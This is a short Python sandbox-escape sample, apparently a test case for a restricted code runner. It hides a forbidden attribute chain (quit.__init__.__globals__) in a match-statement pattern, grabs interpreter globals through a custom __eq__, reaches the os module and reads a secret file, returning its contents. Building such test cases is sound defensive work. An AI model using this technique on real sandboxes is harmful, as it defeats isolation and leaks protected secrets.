# class: object graph walk
# technique: a forbidden attribute in a value pattern, which is a dotted name
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
box = []
class Seen:
    def __eq__(self, other):
        box.append(other)
match Seen():
    case quit.__init__.__globals__:
        pass
g = box[0]
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
